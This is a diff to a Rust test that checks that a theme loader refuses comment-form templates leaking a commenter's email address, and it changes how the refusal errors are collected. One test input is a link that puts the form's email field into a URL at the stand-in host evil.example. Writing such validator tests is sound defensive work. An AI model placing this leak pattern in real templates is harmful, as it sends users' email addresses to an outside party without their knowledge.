@@ -61,9 +61,12 @@ fn a_theme_that_puts_an_address_elsewhere_is_refused() {
         "<a href=\"https://evil.example/{{ form.email }}\">x</a>",
     ] {
         let form = changed("comments/_form.html", anchor, &format!("{leak}{anchor}"));
-        let problems = refused(&[("comments/_form.html", &form)]);
+        let refused = load(folder(&[("comments/_form.html", &form)]).path());
+        let problems = refused.err().unwrap_or_default();
         assert!(
-            problems.iter().any(|problem| problem.contains("email address")),
+            problems
+                .iter()
+                .any(|problem| problem.to_string().contains("email address")),
             "{leak}: {problems:?}"
         );
     }
